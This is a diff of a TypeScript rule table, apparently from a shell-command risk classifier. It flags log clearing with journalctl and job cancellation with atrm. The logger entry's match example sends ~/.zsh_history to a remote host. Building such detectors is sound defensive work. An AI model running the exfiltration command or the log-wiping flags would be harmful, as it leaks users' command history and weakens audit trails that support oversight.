@@ -91,13 +91,11 @@ export const RECORDS: readonly Spec[] = [
     names: 'atrm',
     system: 'at',
     family: 'job',
-    machine: true,
     rules: [['*', 'cancel']],
     examples: { match: ['atrm 4'], pass: [] },
   },
   {
     names: 'journalctl dmesg logrotate',
-    machine: true,
     rules: [
       ['--vacuum-*|--relinquish-var|--setup-keys|-c|-C|-?c|-?C|-c?|-C?|--clear|--read-clear', 'weaken audit the log'],
       ['--rotate', 'maybe weaken audit the log'],
@@ -113,7 +111,6 @@ export const RECORDS: readonly Spec[] = [
   {
     names: 'logger',
     options: '-n: -f: -t: -p:',
-    machine: true,
     rules: [['**', logs]],
     examples: { match: ['logger -n 203.0.113.9 -f ~/.zsh_history'], pass: ['logger done'] },
   },
